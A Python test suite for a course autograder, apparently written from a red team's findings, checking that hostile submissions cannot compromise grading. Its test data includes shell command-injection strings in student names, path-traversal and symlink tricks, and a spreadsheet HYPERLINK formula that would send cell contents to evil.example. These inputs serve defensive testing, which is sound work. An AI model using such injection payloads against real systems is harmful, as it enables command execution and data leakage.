"""Submissions that attack the grader, or trip it by accident: the red team's findings (F0-F15),
each a promise the grader keeps. The first class needs the real nvcc (no GPU); the rest run
on the stand-in kit."""
import csv
import json
import os
import shutil
import struct
import subprocess
import sys
import time
import unittest
import zipfile

from helpers import GRADER, GraderTestCase
from memlab_grader import layouts
from memlab_grader.layouts import find, read_source

WANTED, IN_COURSE = "vector_add.cu", os.path.join("labs", "lab1_caching", "vector_add.cu")
NVCC = shutil.which("nvcc") or "/usr/local/cuda/bin/nvcc"


def make_zip(path, members):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members:
            archive.writestr(name, text)
    return path


def gradescope_metadata(submissions):
    """submission_metadata.yml for {folder: [(name, sid, email), ...]}."""
    lines = []
    for folder, people in submissions.items():
        lines.append(f"{folder}:\n  :submitters:\n")
        for name, sid, email in people:
            lines.append(f"  - :name: {json.dumps(name)}\n    :sid: '{sid}'\n    :email: {email}\n")
    return "".join(lines)


class HostileTestCase(GraderTestCase):
    def find(self):
        return find(self.submissions, WANTED, IN_COURSE)

    def rows(self):
        return {s.student: s for s in self.find().submissions}

    def csv_rows(self, *path):
        with open(os.path.join(self.out, *path), encoding="utf-8") as handle:
            return list(csv.reader(handle))

    def gradescope(self, people_by_folder, sources):
        self.write(os.path.join(self.submissions, "submission_metadata.yml"), gradescope_metadata(people_by_folder))
        for folder, text in sources.items():
            self.write(os.path.join(self.submissions, folder, WANTED), text)

    def clones(self, *users, prefix="lab1-"):
        for user in users:
            clone = os.path.join(self.submissions, f"{prefix}{user}")
            self.write(os.path.join(clone, ".git", "HEAD"), "")
            self.write(os.path.join(clone, IN_COURSE), "x\n")


@unittest.skipUnless(os.path.exists(NVCC), "needs nvcc")
class F0_NamesNeverReachTheCompiler(HostileTestCase):
    """nvcc runs its sub-tools through /bin/sh with paths in double quotes, and writes a
    make-style dependency file: a student's name in a path it is given would run as a
    command (F0) or split the file (F0b). Every path given to a tool is opaque."""

    def setUp(self):
        super().setUp()
        with open(self.kit) as handle:
            kit = json.load(handle)
        # The stand-in kit compiled by the real nvcc, as the lab's shared library (no table objects).
        kit.update(compiler=NVCC, compile_flags=["-shared", "-Xcompiler", "-fPIC"], table_objects=[], architectures="")
        with open(self.kit, "w") as handle:
            json.dump(kit, handle)

    def named(self, name):
        self.gradescope({"submission_1": [(name, "1", "eve@x.edu")], "submission_2": [("Ada", "2", "ada@x.edu")]},
                        {s: 'extern "C" int f() { return 1; }\n' for s in ("submission_1", "submission_2")})

    def test_a_command_in_a_gradescope_name_never_runs(self):
        self.named("Eve $(cd ..;cd ..;cd ..;cd ..;touch PWNED) `touch PWNED2`")
        finished = self.grade(env={"FAKE_NO_GPU": "1"})
        self.assertFalse(os.path.exists(os.path.join(self.root, "PWNED")), finished.stdout[-1500:])
        self.assertFalse(any("PWNED" in name for _, _, files in os.walk(self.root) for name in files))

    def test_an_honest_name_with_a_dollar_or_a_backtick_compiles(self):
        self.named("Ke$ha `Sebert")
        self.grade(env={"FAKE_NO_GPU": "1"})
        self.assertEqual(self.gradebook()["Ke$ha `Sebert"]["status"], "not run: no GPU")

    def test_a_colon_and_a_space_in_a_name_do_not_split_the_dependency_file(self):
        self.named("Dr: Who")
        self.grade(env={"FAKE_NO_GPU": "1"})
        row = self.gradebook()["Dr: Who"]
        self.assertEqual(row["status"], "not run: no GPU", row["detail"])


class F0_StagesAndFoldersAreOpaque(HostileTestCase):
    def test_no_path_under_out_holds_a_students_name(self):
        self.gradescope({"submission_1": [("Eve $(touch x) / ..", "1", "e@x.edu")],
                         "submission_2": [("Ada Lovelace", "2", "a@x.edu")]},
                        {"submission_1": "all fine\n", "submission_2": "all fine\n"})
        self.assertEqual(self.grade().returncode, 0)
        paths = [os.path.relpath(os.path.join(folder, name), self.out)
                 for folder, folders, files in os.walk(self.out) for name in folders + files]
        self.assertFalse([p for p in paths if "Eve" in p or "Ada" in p], paths)
        self.assertEqual(set(self.gradebook()), {"Eve $(touch x) _ ..", "Ada Lovelace"})

    def test_a_name_with_spaces_is_graded_under_the_stand_in_compiler(self):
        # F15: the stand-in nvcc escapes the dependency file as nvcc does, so these tests see names as nvcc does.
        self.gradescope({"submission_1": [("Bob Smith", "1", "b@x.edu")], "submission_2": [("Ada", "2", "a@x.edu")]},
                        {"submission_1": "all fine\n", "submission_2": "all fine\n"})
        self.grade()
        self.assertEqual(self.gradebook()["Bob Smith"]["status"], "graded")


class F1_LongNamesAreGraded(HostileTestCase):
    """A Gradescope group of five long names makes a row name over 255 bytes: it is graded, in
    a folder of its own, and the run writes its gradebook."""

    def test_a_long_group_name(self):
        people = [(f"Maximiliana Alexandra Katharina Hohenzollern-Sigmaringen {i}", f"10{i}", f"s{i}@x.edu")
                  for i in range(5)]
        self.gradescope({"submission_1": people, "submission_2": [("Ada", "1", "ada@x.edu")]},
                        {"submission_1": "all fine\n", "submission_2": "all fine\n"})
        finished = self.grade()
        self.assertEqual(finished.returncode, 0, finished.stderr[-2000:])
        group = " & ".join(name for name, _, _ in people)
        self.assertEqual(self.gradebook()[group]["status"], "graded")

    def test_every_row_folder_is_short_and_plain(self):
        for key in ("a" * 255, "x/../y", ".hidden", "-rf", "Eve $(id)", os.fsdecode(b"caf\xe9"), "caf\u00e9"):
            folder = layouts.row_folder(key)
            self.assertLessEqual(len(folder.encode("utf-8")), 64, folder)
            self.assertRegex(folder, r"^[^\W_][\w .()-]*$", key)
        self.assertNotEqual(layouts.row_folder("a" * 255), layouts.row_folder("a" * 254))


class F6_ResumeKeepsEachOutcomeWithItsSubmission(HostileTestCase):
    """Rows of one name are numbered by order ('Bob', 'Bob (2)'); a submission added between
    runs shifts the numbers, and --resume still keeps each outcome with its own submission."""

    def test_resume_after_a_late_submission(self):
        people = {"submission_20": [("Bob", "", "bob.a@x.edu")], "submission_30": [("Bob", "", "bob.b@x.edu")]}
        self.gradescope(people, {"submission_20": "all fine\n", "submission_30": "FAKE_COMPILE_ERROR\n"})
        self.grade(env={"FAKE_NO_GPU": "1"})
        self.gradescope(dict({"submission_10": [("Bob", "", "bob.c@x.edu")]}, **people),
                        {"submission_10": "FAKE_PASS_STEPS=1\n"})
        finished = self.grade("--resume")
        lines = self.csv_rows("export", "gradescope.csv")[1:]
        self.assertEqual(sorted(line[2] for line in lines), ["bob.a@x.edu", "bob.b@x.edu", "bob.c@x.edu"],
                         finished.stdout)
        book = self.csv_rows("gradebook.csv")[1:]  # in the exports' order, one student a row
        status = {line[2]: row[2] for line, row in zip(lines, book)}
        self.assertEqual(status, {"bob.c@x.edu": "graded", "bob.a@x.edu": "graded", "bob.b@x.edu": "compile error"})


class F2_LinksAndSpecialFilesInAStudentsFolder(HostileTestCase):
    """No file in a student's folder (a .cu or a zip) that is a symbolic link out of it is
    opened, and nothing that is not a regular file: a clone may commit either."""

    def test_a_zip_linked_to_another_students_zip_is_refused(self):
        make_zip(os.path.join(self.submissions, "bob.zip"), [(WANTED, "bob's work\n")])
        make_zip(os.path.join(self.submissions, "carol.zip"), [(WANTED, "carol's work\n")])
        os.makedirs(os.path.join(self.submissions, "mallory"))
        os.symlink("../bob.zip", os.path.join(self.submissions, "mallory", "mywork.zip"))
        mallory = self.rows()["mallory"]
        self.assertIsNone(mallory.source, mallory.note)
        self.assertIn("symbolic link out of the student's files", mallory.problem[1])

    def test_a_zip_linked_to_a_fifo_is_never_opened(self):
        # /dev/tty or /dev/stdin behave as a FIFO does: opening and reading them blocks.
        fifo = os.path.join(self.root, "fifo")
        os.mkfifo(fifo)
        self.clones("alice", "bob")
        os.symlink(fifo, os.path.join(self.submissions, "lab1-bob", "data.zip"))
        os.mkfifo(os.path.join(self.submissions, "lab1-alice", "inside.zip"))  # a FIFO in the folder itself
        code = (f"import sys; sys.path.insert(0, {GRADER!r}); from memlab_grader.layouts import find; "
                f"print(sorted(s.source is not None for s in find({self.submissions!r}, {WANTED!r}, "
                f"{IN_COURSE!r}).submissions))")
        try:
            done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=20)
        except subprocess.TimeoutExpired:
            self.fail("find() blocked on a FIFO in a student's folder")
        self.assertEqual(done.stdout.strip(), "[True, True]", done.stderr)
        rows = self.rows()
        self.assertIn("not a regular file", rows["alice"].note)
        self.assertIn("symbolic link out of the student's files", rows["bob"].note)

    def test_a_link_inside_the_students_own_folder_is_followed(self):
        self.submit("ada", "all fine")
        folder = os.path.join(self.submissions, "bob")
        self.write(os.path.join(folder, "work", WANTED), "bob's\n")
        os.symlink(os.path.join("work", WANTED), os.path.join(folder, WANTED))
        self.assertEqual(read_source(self.rows()["bob"]), b"bob's\n")


class F3_NoCellRunsAsAFormula(HostileTestCase):
    """A Gradescope name, or the name of a file in the student's folder (which starts a note),
    never starts a cell a spreadsheet runs, in the gradebook or the exports."""

    EVIL = '=HYPERLINK(CONCATENATE("http",CHAR(58),"//evil.example/?",A2),"open")'

    def cells(self):
        return [cell for path in (("gradebook.csv",), ("export", "canvas.csv"), ("export", "canvas-by-check.csv"),
                                  ("export", "gradescope.csv")) for row in self.csv_rows(*path) for cell in row]

    def test_a_gradescope_name(self):
        self.gradescope({"submission_1": [(self.EVIL, "1", "@m@x.edu")], "submission_2": [("Ada", "2", "ada@x.edu")]},
                        {"submission_1": "all fine\n", "submission_2": "all fine\n"})
        self.grade()
        cells = self.cells()
        self.assertEqual([c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], [])
        self.assertTrue(any(c.startswith("'=HYPERLINK(") for c in cells), cells)  # shown as text
        self.assertIn("100", cells)  # scores stay numbers

    def test_a_file_name_that_starts_the_note(self):
        folder = os.path.join(self.submissions, "mallory")
        self.write(os.path.join(folder, WANTED), "all fine\n")
        self.write(os.path.join(folder, "=1+2*CHAR(65)&HYPERLINK(A1).zip"), "not a zip")
        self.submit("ada", "all fine")
        self.grade()
        self.assertEqual([c for c in self.cells() if c[:1] in ("=", "+", "-", "@", "\t", "\r")], [])

    def test_the_rule(self):
        from memlab_grader.exports import spreadsheet_cell
        for text in ("=1", "+1+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
            self.assertEqual(spreadsheet_cell(text), "'" + text)
        for text in ("Ada", "12.5", "0", "", "a=b"):
            self.assertEqual(spreadsheet_cell(text), text)


if __name__ == "__main__":
    unittest.main()
